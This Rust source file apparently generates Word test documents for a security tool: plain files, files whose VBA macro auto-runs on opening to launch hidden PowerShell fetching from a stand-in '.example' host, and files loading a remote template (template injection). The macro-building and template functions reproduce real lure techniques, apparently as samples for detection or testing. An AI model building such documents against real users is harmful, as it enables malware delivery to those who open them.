//! Word documents (ECMA-376): without macros, with a VBA project, and with a template from elsewhere.

use std::io::{Cursor, Write as _};

use zip::ZipWriter;
use zip::write::SimpleFileOptions;

use super::super::dice::Dice;
use super::vba;

const DOCUMENT: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const WITH_MACROS: &str = "application/vnd.ms-word.document.macroEnabled.main+xml";
const RELATIONS: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/// A document of these paragraphs.
pub(in super::super) fn document(paragraphs: &[String]) -> Vec<u8> {
    package(&parts(paragraphs, DOCUMENT, ""))
}

/// A document whose macro runs on opening and would start PowerShell, as the 2016 lure's did. The host is under
/// `.example`.
pub(in super::super) fn macro_document(paragraphs: &[String], host: &str, dice: &mut Dice) -> Vec<u8> {
    let relation = r#"<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>"#;
    let mut parts = parts(paragraphs, WITH_MACROS, relation);
    let project = vba::project("NewMacros", &source(host, dice)).unwrap_or_default();
    parts.push(("word/vbaProject.bin", project));
    package(&parts)
}

/// A document that takes its template from elsewhere when it is opened (T1221).
pub(in super::super) fn template_document(paragraphs: &[String], target: &str) -> Vec<u8> {
    let relation = format!(r#"<Relationship Id="rId8" Type="{RELATIONS}/settings" Target="settings.xml"/>"#);
    let mut parts = parts(paragraphs, DOCUMENT, &relation);
    let settings = format!(
        r#"<?xml version="1.0"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="{RELATIONS}"><w:attachedTemplate r:id="rId1"/></w:settings>"#
    );
    let elsewhere = relations(&format!(
        r#"<Relationship Id="rId1" Type="{RELATIONS}/attachedTemplate" Target="{target}" TargetMode="External"/>"#
    ));
    parts.push(("word/settings.xml", settings.into_bytes()));
    parts.push(("word/_rels/settings.xml.rels", elsewhere.into_bytes()));
    package(&parts)
}

/// The macro's text: the shape of the real one, a host that nobody can own.
fn source(host: &str, dice: &mut Dice) -> String {
    let (first, second) = (name(dice), name(dice));
    let path = dice.token(8);
    format!(
        "Sub AutoOpen()\r\n    {first}\r\nEnd Sub\r\n\r\nSub Document_Open()\r\n    {first}\r\nEnd Sub\r\n\r\n\
         Private Sub {first}()\r\n    Dim {second} As String\r\n    {second} = \"powershell -w hidden -c \"\"\"\r\n    \
         {second} = {second} & \"Invoke-WebRequest http://{host}/{path}\"\"\"\r\n    Shell {second}, vbHide\r\nEnd Sub\r\n"
    )
}

fn name(dice: &mut Dice) -> String {
    let mut name = "m".to_owned();
    name.push_str(&dice.hex(6));
    name
}

fn parts(paragraphs: &[String], kind: &str, relation: &str) -> Vec<(&'static str, Vec<u8>)> {
    let types = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="{kind}"/></Types>"#
    );
    let root = relations(&format!(
        r#"<Relationship Id="rId1" Type="{RELATIONS}/officeDocument" Target="word/document.xml"/>"#
    ));
    vec![
        ("[Content_Types].xml", types.into_bytes()),
        ("_rels/.rels", root.into_bytes()),
        ("word/document.xml", text(paragraphs).into_bytes()),
        ("word/_rels/document.xml.rels", relations(relation).into_bytes()),
    ]
}

fn text(paragraphs: &[String]) -> String {
    let escaped = |text: &str| text.replace('&', "&amp;").replace('<', "&lt;");
    let paragraph = |text: &String| format!("<w:p><w:r><w:t>{}</w:t></w:r></w:p>", escaped(text));
    let body: String = paragraphs.iter().map(paragraph).collect();
    format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{body}</w:body></w:document>"#
    )
}

fn relations(inner: &str) -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{inner}</Relationships>"#
    )
}

fn package(parts: &[(&str, Vec<u8>)]) -> Vec<u8> {
    zipped(parts).unwrap_or_default()
}

fn zipped(parts: &[(&str, Vec<u8>)]) -> zip::result::ZipResult<Vec<u8>> {
    let mut file = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in parts {
        file.start_file(*name, SimpleFileOptions::default())?;
        file.write_all(bytes)?;
    }
    Ok(file.finish()?.into_inner())
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Read as _;

    #[test]
    fn a_macro_document_opens_and_its_macro_is_read() {
        let bytes = macro_document(&["Hello".to_owned()], "host.example", &mut Dice::of(1, "macro"));
        let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
        let mut project = Vec::new();
        archive.by_name("word/vbaProject.bin").unwrap().read_to_end(&mut project).unwrap();
        let source = ovba::open_project(project).unwrap().module_source("NewMacros").unwrap();
        assert!(source.contains("Sub AutoOpen()") && source.contains("powershell"), "{source}");
        assert!(source.contains("http://host.example/"), "{source}");
    }

    #[test]
    fn a_plain_document_has_no_project() {
        let archive = zip::ZipArchive::new(Cursor::new(document(&["a < b".to_owned()]))).unwrap();
        assert!(archive.file_names().all(|name| !name.unwrap().contains("vba")));
    }
}
